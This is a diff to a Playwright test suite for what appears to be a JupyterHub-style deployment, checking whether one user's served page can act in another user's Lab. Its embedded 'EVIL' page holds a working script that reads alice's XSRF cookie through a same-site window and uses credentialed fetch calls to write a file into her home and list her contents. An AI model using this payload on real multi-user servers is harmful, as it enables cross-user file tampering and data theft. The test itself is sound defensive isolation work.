@@ -10,28 +10,32 @@ import re
 from collections.abc import Iterator
 
 import pytest
-from playwright.sync_api import Page, expect
+from playwright.sync_api import Browser, Page, expect
 
 from support.apart import PYTHON
 from support.pages import PASSWORD, SLOW
 from support.site import Site
 
 EVIL = """<!doctype html><title>wait</title><script>
+const wait = time => new Promise(done => setTimeout(done, time));
 async function attack(base) {
-  // Within one site a page may say that it is elsewhere, and is then told the cookies of that place.
-  try { history.pushState({}, "", base + "lab") } catch (refused) {}
-  const xsrf = (document.cookie.match(/_xsrf=([^;]+)/) || ["", ""])[1];
+  const said = [];
+  // A window of the same site is an open book: what its scripts may know, this one may know.
+  const her = window.open(base + "lab");
+  let xsrf = "";
+  for (let tries = 0; tries < 100 && !xsrf; tries++, await wait(100))
+    try { xsrf = (her.document.cookie.match(/_xsrf=([^;]+)/) || ["", ""])[1] }
+    catch (refused) { said.push(refused); break }
   const body = JSON.stringify({type: "file", format: "text", content: "eve"});
-  const put = {method: "PUT", credentials: "include", body};
-  for (const headers of [{"X-XSRFToken": xsrf, "Content-Type": "application/json"}, {"Content-Type": "text/plain"}])
-    for (const mode of ["cors", "no-cors"])
-      try { await fetch(base + "api/contents/stolen.txt?_xsrf=" + xsrf, {...put, headers, mode}) } catch (refused) {}
-  try { await fetch(base + "api/contents/?_xsrf=" + xsrf, {credentials: "include"}).then(r => r.text())
-        .then(text => { document.body.innerText = text }) } catch (refused) { document.body.innerText = "refused" }
+  const more = {method: "PUT", credentials: "include", headers: {"Content-Type": "application/json"}, body};
+  for (const [path, how] of [["api/contents/stolen.txt", more], ["api/contents/", {credentials: "include"}]])
+    try { said.push(await (await fetch(base + path + "?_xsrf=" + xsrf, how)).text()) }
+    catch (refused) { said.push(refused) }
+  document.body.innerText = said.join(" ");
   document.title = "done";
 }
-window.onload = () => attack(BASE);
-</script><body></body>"""
+window.onclick = () => attack(BASE);
+</script><body>a harmless page</body>"""
 SERVE = """
 import http.server, os, socketserver, sys
 page = sys.stdin.read().encode()
@@ -48,11 +52,11 @@ print("ready", flush=True); server.serve_forever()
 
 
 @contextlib.contextmanager
-def evil(site: Site, base: str) -> Iterator[None]:
+def evil(site: Site, browser: Browser, hub: str, base: str) -> Iterator[None]:
     """While eve's own program answers in the place of her server, with a page that is after what is at `base`."""
-    with site.client("eve", PASSWORD) as eve:
-        eve.sign_in()
-        eve.start_server()
+    context = browser.new_context(locale="en-US")
+    in_the_lab_of("eve", context.new_page(), hub)
+    context.close()
     site.machine.write("/home/eve/page.html", EVIL.replace("BASE", repr(base)), owner="eve")
     site.machine.write("/home/eve/serve.py", SERVE, owner="eve")
     argv = ["/bin/sh", "-c", f"exec {PYTHON} -I /home/eve/serve.py < /home/eve/page.html"]
@@ -61,25 +65,28 @@ def evil(site: Site, base: str) -> Iterator[None]:
         yield
 
 
-def in_her_lab(page: Page, url: str) -> None:
-    """Alice signs in and her Lab is there."""
-    page.goto(f"{url}/hub/login")
-    page.fill("#username_input", "alice")
+def in_the_lab_of(name: str, page: Page, hub: str) -> None:
+    """They sign in and their Lab is there."""
+    page.goto(f"{hub}/hub/login")
+    page.fill("#username_input", name)
     page.fill("#password_input", PASSWORD)
     page.click("#login_submit, form [type=submit]")
-    page.wait_for_url(re.compile(r"/user/alice/lab"), timeout=SLOW)
+    page.wait_for_url(re.compile(f"/user/{name}/lab"), timeout=SLOW)
     expect(page.locator("#jp-MainMenu")).to_be_visible(timeout=SLOW)
 
 
 def opens(page: Page, url: str) -> str:
     """What the page shows when it has done what it can."""
     page.goto(url)
+    page.click("body")  # a browser opens a window for somebody who clicks
     page.wait_for_function("document.title == 'done'", timeout=SLOW)
     return page.inner_text("body")
 
 
 @pytest.mark.parametrize("subdomains", [False, True], ids=["one-name", "subdomains"])
-def test_a_page_of_eves_can_act_in_alices_lab_only_where_they_share_a_name(page: Page, subdomains: bool) -> None:
+def test_a_page_of_eves_can_act_in_alices_lab_only_where_they_share_a_name(
+    page: Page, chromium: Browser, subdomains: bool
+) -> None:
     with Site("bookworm") as site:
         port = site.machine.port
         hub, alices, eves = (f"http://{name}lab.localhost:{port}" for name in ("", "alice.", "eve."))
@@ -90,11 +97,11 @@ def test_a_page_of_eves_can_act_in_alices_lab_only_where_they_share_a_name(page:
         for name in ("alice", "eve"):
             site.add_user(name, PASSWORD)
         with site.up():
-            in_her_lab(page, hub)
+            in_the_lab_of("alice", page, hub)
             assert page.url.startswith(f"{alices}/user/alice/lab")
-            with evil(site, f"{alices}/user/alice/" if subdomains else "/user/alice/"):
+            with evil(site, chromium, hub, f"{alices}/user/alice/" if subdomains else "/user/alice/"):
                 shown = opens(page, f"{eves}/user/eve/page.html")
-            assert site.machine.exists("/home/alice/stolen.txt") is not subdomains
+            assert site.machine.exists("/home/alice/stolen.txt") is not subdomains, shown
             assert ("stolen.txt" in shown) is not subdomains
             # And her Lab is as it was.
             page.goto(f"{alices}/user/alice/lab")
